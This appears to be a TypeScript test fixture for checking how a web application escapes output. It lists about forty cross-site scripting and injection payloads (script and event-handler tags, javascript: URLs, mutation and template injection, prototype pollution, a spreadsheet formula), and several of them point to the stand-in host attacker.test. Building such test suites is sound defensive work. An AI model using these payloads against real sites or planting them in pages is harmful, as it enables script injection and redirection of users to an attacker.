import { escapeHidden, escapeInvisible } from '#contract/values/invisibleCharacters.ts';

/** Scripts open a dialog or fail; elements and attributes have "hit" in their names; requests go to attacker.test. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: '<script data-hit>alert(1)</script>',
  'script, misspelt': '<ScRiPt/data-hit>alert(1)//',
  'script in JSON in a script': '</script><script data-hit>alert(1)//',
  'speculation rules': '<script data-hit type=speculationrules>{"prefetch":[]}</script>',
  image: '<img src=x onerror=alert(1) data-hit>',
  'set of images': '<img data-hit srcset="//attacker.test/1 1x, javascript:alert(1) 2x">',
  svg: '<svg data-hit onload=alert(1)>',
  'svg that animates a link': '<svg data-hit><a><animate attributeName=href values=javascript:alert(1)>',
  'svg with HTML in it': '<svg><foreignObject><iframe data-hit src=javascript:alert(1)>',
  math: '<math><mtext><a data-hit xlink:href="javascript:alert(1)">x',
  'frame with a document': '<iframe data-hit srcdoc="<script>alert(1)</script>">',
  object: '<object data-hit data="data:text/html,<script>alert(1)</script>">',
  'element that opens itself': '<details data-hit open ontoggle=alert(1)>',
  'field that takes the focus': '<input data-hit autofocus onfocus=alert(1)>',
  'attribute, double quotes': '" autofocus onfocus="alert(1)" data-hit="',
  'attribute, single quotes': "' autofocus onfocus='alert(1)' data-hit='",
  'attribute, no quotes': 'x` onmouseover=alert(1) data-hit=`',
  'URL that runs': 'javascript:alert(1)//',
  'URL that runs, with blanks in its scheme': '\u0001jAvA\tsc\nript:alert(1)//',
  'URL with a document': 'data:text/html,<script data-hit>alert(1)</script>',
  'URL without a scheme': String.raw`/\attacker.test/`,
  'steps of a path': '../../../..//attacker.test/#code=hit',
  'percent-encoded, twice': '%3Cscript%20data-hit%3Ealert(1)%3C/script%3E%253Csvg%253E',
  'template of a framework': "{{constructor.constructor('alert(1)')()}}",
  'templates of other languages': '${alert(1)}<%= alert(1) %>#{alert(1)}',
  'end of a comment': '--><img data-hit src=x onerror=alert(1)><!--',
  'end of CDATA': ']]><img data-hit src=x onerror=alert(1)><![CDATA[',
  'end of raw text': '</title></textarea></noscript></style><img data-hit src onerror=alert(1)>',
  'mutation, without scripts': '<noscript><p title="</noscript><img data-hit src=x onerror=alert(1)>">',
  'mutation, of namespace': '<math><mtext><table><mglyph><style><img data-hit src onerror=alert(1)>',
  'style sheet': '</style><style data-hit>*{display:none}@import"//attacker.test"',
  'entities of HTML': '&lt;img data-hit src=x onerror=alert(1)&gt;&#x3c;script&#62;',
  'page that leaves': '<meta data-hit http-equiv=refresh content="0;url=//attacker.test">',
  'base of links': '<base data-hit href=//attacker.test/><link rel=stylesheet href=hit>',
  form: '<form data-hit action=//attacker.test><button formaction=javascript:alert(1)>',
  'names of the document': '<a data-hit id=root><form name=body><input name=attributes>',
  prototypes: '{"__proto__":{"hit":1},"constructor":{"prototype":{"hit":1}}}',
  formula: '=HYPERLINK("//attacker.test","hit")',
  'what is not seen': '<scr\u0000ipt data-hit>\u202e\u2028\ud800\u001b]0;hit',
  'more than fits': '<b data-hit>'.repeat(700),
};

const asJson = (text: string) => JSON.stringify(text).slice(1, -1);

/** Forms of a text on a page: invisible characters named or escaped, line breaks removed, truncated. */
export function listForms(text: string): string[] {
  const line = text.replaceAll(/[\r\n]/g, '');
  const start = text.length > 1000 ? [text.slice(0, 40)] : [];
  return [...new Set([text, escapeHidden(text), escapeInvisible(text), asJson(text), line, ...start])];
}
